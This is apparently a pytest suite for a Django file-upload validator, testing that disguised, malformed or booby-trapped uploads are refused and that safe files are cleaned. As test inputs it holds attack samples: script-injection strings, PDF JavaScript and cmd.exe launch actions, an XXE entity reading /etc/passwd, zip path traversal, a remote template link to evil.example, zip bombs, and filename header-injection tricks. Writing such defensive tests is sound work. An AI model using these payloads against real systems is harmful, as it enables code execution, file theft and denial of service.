import io
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from ci_backbone.lib.uploads import LARGEST, UploadRefused, check_upload, clean_name, send_file
from tests.factories.files import PDF, SHEET, office, picture, picture_with_words, zipped

SCRIPT = b"<script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><body>" + SCRIPT


def checked(name, content):
    return check_upload(SimpleUploadedFile(name, content))


def flipped(content, place):
    return content[:place] + bytes([content[place] ^ 0xFF]) + content[place + 1 :]


def refusal(name, content):
    with pytest.raises(UploadRefused) as refused:
        checked(name, content)
    return str(refused.value)


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("Charter.PDF", PDF, "application/pdf"),
        ("map.png", picture("PNG"), "image/png"),
        ("photo.JPEG", picture("JPEG"), "image/jpeg"),
        ("photo.webp", picture("WEBP"), "image/webp"),
        ("rules.docx", office("docx"), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("rules.xlsx", office("xlsx"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("list.csv", "name,age\nÅsa <5,3\n".encode(), "text/csv"),
        ("list.csv", "name;age\nÅsa;3\n".encode("utf-16"), "text/csv"),
    ],
)
def test_each_kind_that_is_taken_comes_in_as_what_it_is(name, content, kind):
    assert checked(name, content).content_type == kind


@pytest.mark.parametrize(
    "name", ["a.svg", "a.html", "a.exe", "a.docm", "a.xlsm", "a.pdf.exe", "a.zip", "a", ".pdf.svg", "a.gif", "pdf"]
)
def test_other_endings_are_refused_whatever_is_inside(name):
    assert "other kinds are not taken" in refusal(name, PDF)


@pytest.mark.parametrize("ending", ["pdf", "png", "jpg", "webp", "docx", "xlsx", "csv"])
@pytest.mark.parametrize(
    "content",
    [HTML, SVG, b"MZ\x90\x00" + b"\x00" * 200, b"GIF89a" + b"\x01" * 20, b"\x7fELF" + bytes(100), b"PK\x03\x04", b"\n"],
    ids=["html", "svg", "exe", "gif", "elf", "zip", "blank"],
)
def test_something_else_under_a_name_that_is_taken_is_refused(ending, content):
    assert refusal(f"a.{ending}", content)


@pytest.mark.parametrize("ending", ["pdf", "png", "jpg", "webp", "docx", "xlsx"])
def test_one_kind_under_the_name_of_another_is_refused(ending):
    contents = {
        "pdf": PDF,
        "png": picture("PNG"),
        "jpg": picture("JPEG"),
        "webp": picture("WEBP"),
        "docx": office("docx"),
        "xlsx": office("xlsx"),
    }

    for kind, content in contents.items():
        if kind != ending:
            assert refusal(f"a.{ending}", content)


def test_an_empty_file_is_refused_with_a_sentence():
    assert "empty" in refusal("a.pdf", b"")


def test_a_file_over_the_limit_is_refused():
    assert "10 MB" in refusal("a.pdf", PDF[:-6] + b" " * LARGEST + b"%%EOF\n")


@pytest.mark.parametrize(
    "content",
    [
        b"junk" + PDF,
        PDF + HTML,
        PDF + zipped({"a.txt": b"x"}),
        PDF.replace(b"1 0 obj", b"%<html><body onload=alert(1)>\n1 0 obj"),
        PDF.replace(b"/Type /Catalog", b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        PDF.replace(b"/Type /Catalog", b"/OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >>"),
        PDF.replace(b"/Type /Catalog", b"/AA << /S /Launch /F (cmd.exe) >>"),
        PDF.replace(b"/Type /Catalog", b"/Names << /EmbeddedFiles 2 0 R >>"),
        b"%PDF-1.7 no end",
    ],
    ids=["before", "html behind", "zip behind", "html inside", "script", "hidden script", "launch", "files", "cut"],
)
def test_a_pdf_that_is_more_than_a_pdf_is_refused(content):
    assert refusal("a.pdf", content)


def test_words_inside_a_stream_of_a_pdf_harm_nobody():
    content = PDF.replace(b"endobj", b"stream\n/JS <script>\nendstream\nendobj")

    assert checked("a.pdf", content).content == content


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP"])
def test_only_the_pixels_of_an_image_stay(kind):
    exif = Image.Exif()
    exif[0x010E] = "<script>alert(1)</script>"
    exif[0x8825] = {1: "N", 2: (43.0, 4.0, 12.0)}
    content = picture(kind, exif=exif) + HTML

    kept = checked(f"a.{kind.lower().replace('jpeg', 'jpg')}", content).content

    image = Image.open(io.BytesIO(kept))
    assert b"script" in content
    assert b"script" not in kept
    assert dict(image.getexif()) == {}
    assert image.size == (8, 6)


def test_a_text_in_a_png_is_dropped():
    content = picture_with_words("<script>alert(1)</script>")

    kept = checked("a.png", content).content

    assert b"script" in content
    assert b"script" not in kept


def test_a_photo_stands_upright_without_its_metadata():
    exif = Image.Exif()
    exif[0x0112] = 6

    kept = checked("a.jpg", picture("JPEG", (8, 6), exif=exif)).content

    assert Image.open(io.BytesIO(kept)).size == (6, 8)


def test_a_transparent_image_stays_transparent():
    out = io.BytesIO()
    Image.new("RGBA", (4, 4), (0, 0, 0, 0)).save(out, "PNG")

    assert Image.open(io.BytesIO(checked("a.png", out.getvalue()).content)).getpixel((0, 0)) == (0, 0, 0, 0)


@pytest.mark.parametrize("size", [(7000, 7000), (60_000, 60_000), (2**31 - 1, 2**31 - 1)])
def test_an_image_of_huge_dimensions_is_refused_before_it_is_unpacked(size):
    header = struct.pack(">IIBBBBB", *size, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + header
    content = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk))
    data = b"IDAT" + zlib.compress(b"\x00" * 1000)
    content += struct.pack(">I", len(data) - 4) + data + struct.pack(">I", zlib.crc32(data))

    assert "pixels" in refusal("a.png", content)


@pytest.mark.parametrize("cut", [8, 20, 40])
def test_a_cut_image_is_refused(cut):
    assert refusal("a.png", picture()[:cut])


@pytest.mark.parametrize(
    "content",
    [
        office("docx", {"word/vbaProject.bin": b"macro"}),
        office("docx", {"word/activeX/activeX1.xml": b"<a/>"}),
        office("docx", {"word/embeddings/oleObject1.bin": b"x"}),
        office("docx", {"word/setup.exe": b"MZ"}),
        office("docx", {"word/page.html": HTML}),
        office("docx", {"../../evil.xml": b"<a/>"}),
        office("docx", {"/etc/passwd": b"x"}),
        office("docx", {"word\\evil.xml": b"<a/>"}),
        office("docx", {"word/document.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
        office("docx", {"word/settings.xml": "<!DOCTYPE a><a/>".encode("utf-16")}),
        office("docx", main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        office("docx", main=SHEET),
        office("docx", without="word/document.xml"),
        office("docx", without="[Content_Types].xml"),
        office("docx", without="_rels/.rels"),
        office(
            "docx",
            {
                "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                b'Target="http://evil.example/t.dotm" TargetMode="External"/>'
            },
        ),
        HTML + office("docx"),
        office("docx") + HTML,
        zipped({f"word/part{number}.xml": b"<a/>" for number in range(2100)}),
        office("docx")[:-30],
        flipped(office("docx"), 60),
    ],
    ids=[
        "macro",
        "active",
        "ole",
        "exe",
        "html",
        "climbing",
        "absolute",
        "backslash",
        "entity",
        "entity in utf-16",
        "macro type",
        "other type",
        "no document",
        "no types",
        "no relations",
        "template",
        "html before",
        "html behind",
        "too many",
        "cut",
        "changed",
    ],
)
def test_a_document_that_is_more_or_less_than_one_is_refused(content):
    assert "DOCX" in refusal("a.docx", content)


def test_a_bomb_is_refused_by_its_ratio_and_by_its_size():
    by_ratio = office("docx", {"word/media/image1.png": b"\x00" * (20 * 1024 * 1024)})
    by_size = office("docx", {f"word/media/image{n}.png": b"\x00" * (1024 * 1024) for n in range(120)})

    assert len(by_ratio) < LARGEST > len(by_size)
    assert "DOCX" in refusal("a.docx", by_ratio)
    assert "DOCX" in refusal("a.docx", by_size)


def test_a_bomb_that_lies_about_its_size_is_refused():
    honest = office("docx", {"word/media/image1.png": b"\x00" * (3 * 1024 * 1024)})
    lying = honest.replace(struct.pack("<I", 3 * 1024 * 1024), struct.pack("<I", 9000))

    assert lying != honest
    assert "DOCX" in refusal("a.docx", lying)


def test_links_and_printer_settings_of_an_honest_document_are_fine():
    relations = b'<Relationship Type="http://x/hyperlink" Target="https://example.org" TargetMode="External"/>'
    content = office("xlsx", {"xl/printerSettings/printerSettings1.bin": b"x", "xl/_rels/workbook.xml.rels": relations})

    assert checked("a.xlsx", content).content == content


@pytest.mark.parametrize(
    "content",
    [
        b"name\n<script>alert(1)</script>",
        b"<html>,b",
        b"a,b\n< img src=x onerror=alert(1)>",
        b"a,\x00b",
        b"a,\xff\xfeb",
        "Åsa".encode("cp1252"),
        b"a\x1b[2Jb",
        b",,\n,,",
    ],
    ids=["script", "html", "spaced", "nul", "bytes", "cp1252", "escape", "blank"],
)
def test_a_csv_that_is_no_plain_text_is_refused(content):
    assert refusal("a.csv", content)


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\me\\charter.PDF", "charter.pdf"),
        ("char\u202etxe.fdp.pdf", "chartxe.fdp.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie_ x.pdf"),
        ('a";filename="b.pdf', "a__filename=_b.pdf"),
        ("  .hidden.pdf ", "hidden.pdf"),
        ("\u202e.pdf", "file.pdf"),
        ("Satzung für Müller’s Rat مركز.pdf", "Satzung für Müller’s Rat مركز.pdf"),
        ("a" * 300 + ".pdf", "a" * 120 + ".pdf"),
        ("photo.jpeg", "photo.jpg"),
        ("nul\x00.pdf", "nul.pdf"),
        ("", ""),
    ],
)
def test_names_are_cleaned(typed, kept):
    assert clean_name(typed) == kept


def test_a_name_turned_round_is_judged_by_its_real_ending():
    assert "other kinds" in refusal("charter\u202efdp.exe", PDF)


@pytest.mark.parametrize("is_public", [True, False])
def test_a_sent_file_is_an_attachment_that_nothing_runs(is_public):
    answer = send_file(io.BytesIO(PDF), filename="Müller’s “Rat”.pdf", is_public=is_public)

    assert answer["Content-Disposition"].startswith("attachment; filename*=utf-8''M%C3%BCller")
    assert answer["Content-Type"] == "application/pdf"
    assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert ("no-store" in answer["Cache-Control"]) is not is_public
